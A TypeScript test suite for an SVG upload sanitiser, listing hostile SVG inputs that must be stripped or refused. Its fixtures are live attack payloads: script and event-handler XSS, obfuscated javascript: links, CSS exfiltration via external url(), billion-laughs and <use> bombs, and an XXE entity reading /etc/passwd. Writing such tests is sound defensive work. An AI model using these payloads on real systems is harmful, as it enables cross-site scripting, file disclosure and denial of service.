import assert from 'node:assert/strict';
import { describe, it } from 'node:test';
import { deflateSync } from 'node:zlib';
import { bakePng, bakeSvg, extractBaked } from '@akashi/core';
import type { ServerErrorCode } from '../http/error-registry.js';
import { findSvgDangers } from './find-svg-dangers.js';
import { buildPng, rejectsWith } from './image-test-factories.js';
import { sanitizeSvg } from './sanitize-svg.js';

const NS = 'xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink"';
const svg = (body: string, rootAttributes = ''): string =>
  `<svg ${NS} viewBox="0 0 100 100"${rootAttributes}>${body}<circle id="keep" r="5"/></svg>`;
const base64 = (bytes: Uint8Array): string => Buffer.from(bytes).toString('base64');

/** Uploads that must come out clean, each with one thing the sanitiser must report removing. */
const SANITISED: Record<string, { input: string; removed: string }> = {
  'a script element': { input: svg('<script>alert(1)</script>'), removed: '<script>' },
  'a script in CDATA with an external src': {
    input: svg('<script xlink:href="https://evil.example/x.js"><![CDATA[alert(1)]]></script>'),
    removed: '<script>',
  },
  'onload on the root': { input: svg('', ' onload="alert(1)"'), removed: '@onload' },
  'onclick on a shape': { input: svg('<rect onclick="alert(1)" width="5"/>'), removed: '@onclick' },
  'upper-case onLoad': { input: svg('<g onLoad="alert(1)"/>'), removed: '@onLoad' },
  'a javascript: link': {
    input: svg('<a href="javascript:alert(1)"><rect width="5"/></a>'),
    removed: '<a>',
  },
  'a javascript: link with a tab entity and odd case': {
    input: svg('<a xlink:href="java&#9;ScRiPt:alert(1)"><rect width="5"/></a>'),
    removed: '@href',
  },
  'a javascript: link with a literal tab and newline': {
    input: svg('<a href="java\tscr\nipt:alert(1)"><text>x</text></a>'),
    removed: '@href',
  },
  'use with an external href': {
    input: svg('<use href="https://evil.example/sprite.svg#icon"/>'),
    removed: '@href',
  },
  'use with an external xlink:href': {
    input: svg('<use xlink:href="//evil.example/sprite.svg#icon"/>'),
    removed: '@href',
  },
  'use of a data: SVG document': {
    input: svg(
      `<use href="data:image/svg+xml;base64,${base64(Buffer.from('<svg onload="alert(1)"/>'))}#x"/>`,
    ),
    removed: '@href',
  },
  'an image from another site': {
    input: svg('<image href="https://tracker.example/pixel.png" width="1" height="1"/>'),
    removed: '<image> (not an embedded PNG)',
  },
  'an image as a data: SVG': {
    input: svg('<image href="data:image/svg+xml,%3Csvg onload=alert(1)%3E"/>'),
    removed: '<image> (not an embedded PNG)',
  },
  'an image as a data: JPEG': {
    input: svg('<image xlink:href="data:image/jpeg;base64,/9j/4AAQ"/>'),
    removed: '<image> (not an embedded PNG)',
  },
  'foreignObject with HTML': {
    input: svg(
      '<foreignObject width="100" height="100"><body xmlns="http://www.w3.org/1999/xhtml"><script>alert(1)</script><iframe src="https://evil.example"/></body></foreignObject>',
    ),
    removed: '<foreignObject>',
  },
  '@import in a style sheet': {
    input: svg('<style>@import url(https://evil.example/x.css); .a{fill:red}</style>'),
    removed: 'css @import',
  },
  'url() to another site in a style sheet': {
    input: svg('<style>.a{fill:url(https://evil.example/x#p)}.b{fill:url(#keep)}</style>'),
    removed: 'css fill',
  },
  '@font-face loading a font': {
    input: svg('<style>@font-face{font-family:x;src:url(https://evil.example/f.woff)}</style>'),
    removed: 'css @font-face',
  },
  'a style sheet breaking out of its element': {
    input: svg('<style><![CDATA[</style><script>alert(1)</script>]]></style>'),
    removed: 'css rule',
  },
  'background:url() in a style attribute': {
    input: svg('<rect style="fill:red;background:url(https://evil.example/x)"/>'),
    removed: 'css background',
  },
  'fill:url() to another site in a style attribute': {
    input: svg('<rect style="fill:url( \'https://evil.example/x#a\' )"/>'),
    removed: 'css fill',
  },
  'a CSS escape hiding url(': {
    input: svg('<rect style="fill:\\75 rl(https://evil.example/x)"/>'),
    removed: 'css fill',
  },
  'expression() and behavior': {
    input: svg('<rect style="fill:expression(alert(1));behavior:url(x.htc);-moz-binding:url(x)"/>'),
    removed: 'css behavior',
  },
  'a presentation attribute with an external url()': {
    input: svg('<rect fill="url(https://evil.example/p.svg#g)" mask="url(data:x)"/>'),
    removed: '@fill',
  },
  'animate setting href to javascript:': {
    input: svg('<a><animate attributeName="href" to="javascript:alert(1)"/><rect width="5"/></a>'),
    removed: '<animate>',
  },
  'set adding an event handler': {
    input: svg('<rect width="5"><set attributeName="onmouseover" to="alert(1)"/></rect>'),
    removed: '<set>',
  },
  'animate rewriting xlink:href': {
    input: svg(
      '<use xlink:href="#keep"><animate attributeName="xlink:href" values="javascript:alert(1)"/></use>',
    ),
    removed: '<animate>',
  },
  'a script in the SVG namespace under another prefix': {
    input: svg('<x:script xmlns:x="http://www.w3.org/2000/svg">alert(1)</x:script>'),
    removed: '<x:script>',
  },
  'an XHTML script': {
    input: svg('<h:script xmlns:h="http://www.w3.org/1999/xhtml">alert(1)</h:script>'),
    removed: '<h:script>',
  },
  'an event attribute under a namespace prefix': {
    input: svg('<rect xmlns:e="http://www.w3.org/2000/svg" e:onclick="alert(1)"/>'),
    removed: '@e:onclick',
  },
  'SVG Tiny handler and listener': {
    input: svg(
      '<handler type="application/ecmascript">alert(1)</handler><listener event="click"/>',
    ),
    removed: '<handler>',
  },
  'an xml-stylesheet processing instruction': {
    input: `<?xml-stylesheet href="https://evil.example/x.css" type="text/css"?>${svg('')}`,
    removed: '<?xml-stylesheet?>',
  },
  'feImage loading another document': {
    input: svg('<filter id="f"><feImage href="https://evil.example/x.png"/></filter>'),
    removed: '<feImage>',
  },
  'textPath following an external path': {
    input: svg('<text><textPath href="https://evil.example/p.svg#path">x</textPath></text>'),
    removed: '@href',
  },
  'a baked OB 3.0 credential': {
    input: bakeSvg(svg(''), JSON.stringify({ id: 'urn:uuid:1', type: ['VerifiableCredential'] })),
    removed: '<openbadges:credential>',
  },
  'markup in text and attribute values': {
    input: svg(
      '<text>&lt;script&gt;alert(1)&lt;/script&gt;<![CDATA[</text><script>alert(2)</script>]]></text><rect id="&quot;&gt;&lt;script&gt;alert(3)&lt;/script&gt;" onmouseover="x"/>',
    ),
    removed: '@onmouseover',
  },
  'an iframe in the SVG namespace': {
    input: svg('<iframe src="https://evil.example"/>'),
    removed: '<iframe>',
  },
  'an xml:base redirecting references': {
    input: svg('<g xml:base="https://evil.example/"><use href="#keep"/></g>'),
    removed: '@xml:base',
  },
};

describe('sanitizeSvg: hostile uploads come out clean (checked by re-parsing the output)', () => {
  for (const [name, { input, removed }] of Object.entries(SANITISED)) {
    it(`removes ${name}`, async () => {
      const result = await sanitizeSvg(input);
      assert.notDeepEqual(findSvgDangers(input), [], 'the checker sees the danger in the input');
      assert.deepEqual(findSvgDangers(result.svg), [], result.svg);
      assert.ok(result.removed.includes(removed), `${removed} not in ${result.removed.join(', ')}`);
      assert.match(result.svg, /<circle id="keep" r="5"\/>/, 'the drawing is kept');
      assert.doesNotMatch(result.svg, /evil\.example|javascript/i);
    });
  }

  it('removes an embedded PNG that carries a baked credential, keeping the image', async () => {
    const baked = bakePng(buildPng(), JSON.stringify({ id: 'urn:uuid:1', type: ['X'] }));
    const result = await sanitizeSvg(svg(`<image href="data:image/png;base64,${base64(baked)}"/>`));
    assert.deepEqual(result.removed, ['embedded PNG iTXt']);
    const href = /xlink:href="data:image\/png;base64,([^"]+)"/.exec(result.svg)?.[1];
    assert.ok(href !== undefined);
    assert.throws(() => extractBaked(Buffer.from(href, 'base64')), {
      code: 'ERR_BAKE_NO_CREDENTIAL',
    });
  });

  it('drops an embedded PNG bomb', async () => {
    const bomb = buildPng({ width: 9000, height: 9000, idat: deflateSync(new Uint8Array(100)) });
    const result = await sanitizeSvg(svg(`<image href="data:image/png;base64,${base64(bomb)}"/>`));
    assert.deepEqual(result.removed, [
      '<image> (embedded PNG refused: ERR_IMAGE_DIMENSIONS_TOO_LARGE)',
    ]);
    assert.doesNotMatch(result.svg, /<image/);
  });

  it('leaves nothing of a baked credential for the extractor', async () => {
    const baked = bakeSvg(svg(''), JSON.stringify({ id: 'urn:uuid:1', type: ['X'] }));
    const { bytes } = await sanitizeSvg(baked);
    assert.throws(() => extractBaked(bytes), { code: 'ERR_BAKE_NO_CREDENTIAL' });
  });
});

const LAUGHS = `<?xml version="1.0"?>
<!DOCTYPE svg [
  <!ENTITY lol "lol">
  <!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
  <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
]>
<svg ${NS}><text>&lol3;</text></svg>`;

const useBomb = (levels: number): string => {
  let defs = '<g id="l0"><rect width="1" height="1"/></g>';
  for (let i = 1; i <= levels; i++) {
    defs += `<g id="l${i}">${`<use href="#l${i - 1}"/>`.repeat(10)}</g>`;
  }
  return svg(`<defs>${defs}</defs><use href="#l${levels}"/>`);
};

/** Uploads that must be refused, and with which code. */
const REFUSED: Record<string, { input: string; code: ServerErrorCode }> = {
  'an entity expansion bomb (billion laughs)': { input: LAUGHS, code: 'ERR_IMAGE_SVG_DOCTYPE' },
  'an external entity (XXE)': {
    input: `<!DOCTYPE svg [<!ENTITY xxe SYSTEM "file:///etc/passwd">]><svg ${NS}><text>&xxe;</text></svg>`,
    code: 'ERR_IMAGE_SVG_DOCTYPE',
  },
  'an external parameter entity': {
    input: `<!DOCTYPE svg [<!ENTITY % p SYSTEM "https://evil.example/x.dtd"> %p;]><svg ${NS}/>`,
    code: 'ERR_IMAGE_SVG_DOCTYPE',
  },
  'an attribute default declared in the DOCTYPE': {
    input: `<!DOCTYPE svg [<!ATTLIST svg onload CDATA "alert(1)">]><svg ${NS}/>`,
    code: 'ERR_IMAGE_SVG_DOCTYPE',
  },
  'an undeclared entity': { input: svg('<text>&xxe;</text>'), code: 'ERR_IMAGE_SVG_MALFORMED' },
  'a reference to a control character': {
    input: svg('<text>a&#1;b</text>'),
    code: 'ERR_IMAGE_SVG_MALFORMED',
  },
  'a reference to a lone surrogate in an attribute': {
    input: svg('<g id="&#xD800;"/>'),
    code: 'ERR_IMAGE_SVG_MALFORMED',
  },
  'XML that is not well-formed': { input: `<svg ${NS}><g></svg>`, code: 'ERR_IMAGE_SVG_MALFORMED' },
  'a <use> bomb (10^6 rectangles from 61 elements)': {
    input: useBomb(6),
    code: 'ERR_IMAGE_SVG_TOO_COMPLEX',
  },
  'a <use> cycle': {
    input: svg('<g id="a"><use href="#b"/></g><g id="b"><use href="#a"/></g>'),
    code: 'ERR_IMAGE_SVG_TOO_COMPLEX',
  },
  'nesting 300 deep': {
    input: svg(`${'<g>'.repeat(300)}${'</g>'.repeat(300)}`),
    code: 'ERR_IMAGE_SVG_TOO_COMPLEX',
  },
  'more than 50,000 tags': { input: svg('<g/>'.repeat(50_001)), code: 'ERR_IMAGE_SVG_TOO_COMPLEX' },
  'an XHTML page': {
    input:
      '<html xmlns="http://www.w3.org/1999/xhtml"><body><script>alert(1)</script></body></html>',
    code: 'ERR_IMAGE_UNSUPPORTED_TYPE',
  },
};

describe('sanitizeSvg: hostile uploads that are refused', () => {
  for (const [name, { input, code }] of Object.entries(REFUSED)) {
    it(`refuses ${name} with ${code}`, async () => {
      const started = performance.now();
      await rejectsWith(sanitizeSvg(input), code);
      assert.ok(performance.now() - started < 1000);
    });
  }

  it('names HTML as what it saw', async () => {
    const error = await rejectsWith(
      sanitizeSvg(REFUSED['an XHTML page']!.input),
      'ERR_IMAGE_UNSUPPORTED_TYPE',
    );
    assert.match(error.message, /it looks like HTML/);
  });

  it('accepts a moderate use of <use> (10^3 rectangles)', async () => {
    const result = await sanitizeSvg(useBomb(3));
    assert.deepEqual(findSvgDangers(result.svg), []);
  });
});
